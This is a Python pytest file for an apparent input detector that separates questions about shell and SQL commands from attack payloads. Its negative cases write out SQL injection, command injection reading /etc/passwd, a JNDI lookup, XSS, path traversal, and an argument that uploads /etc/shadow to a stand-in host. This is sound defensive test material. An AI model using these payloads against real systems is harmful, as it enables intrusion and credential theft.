"""reads_as_question: a search about a command, a statement or a file, not one."""

from __future__ import annotations

import pytest

from apiward.detectors.question import reads_as_question


@pytest.mark.parametrize(
    "text",
    [
        "chmod 755 vs 644",
        "nohup command tutorial",
        "rsync -avz --delete explanation",
        "curl -X POST json example",
        "mongo $ne null vs $exists",
        "union select vs union all performance mysql 8",
        "what does information_schema contain",
        "how to edit /etc/hosts on macos",
        "proc filesystem explained /proc/self",
        "What's the difference between .. and ... in Ruby ranges?",
        'is there a "WAITFOR DELAY" equivalent in postgres',
        'is:question [sql-server] "WAITFOR DELAY" in stored procedure',  # a search operator's word
        "python 'str' object is not callable",  # an error message, a word in quotes
        "bash: curl: command not found on alpine",
    ],
)
def test_questions_about_attack_terms(text: str) -> None:
    assert reads_as_question(text)


@pytest.mark.parametrize(
    "text",
    [
        "1' union select password from users-- example",  # a quote that closes a string, a comment
        "x' or 'a'='a' how",
        "' or 'x' like 'x' typeerror",  # a quote that opens a string, then an error's word
        "1 and not exists(select * from users)",  # "not" alone is SQL's, no error message
        "IF NOT DEFINED var (SET var=default value)",  # cmd.exe's conditional
        'IF NOT EXIST "temp.txt" ECHO not found',
        "1 or 1=1 how",  # a comparison with a number
        "; cat /etc/passwd example",  # a separator
        "$(id) example",
        "${jndi:ldap://x.example/a} example",
        "<svg onload=alert(1)> example",
        "../../etc/passwd example",
        "IF        %VARIABLE%   GTR 0     Echo An error was found",  # a cmd.exe variable
        "google.com%0d%0acat /etc/issue",  # an encoded line break
        "-T /etc/shadow evil.example",  # "example" inside a host name is no word of a question
        "cat /etc/passwd",  # no question's word
        "how",  # too short, one word
        "what " * 60,  # too long
    ],
)
def test_payloads_are_no_questions(text: str) -> None:
    assert not reads_as_question(text)
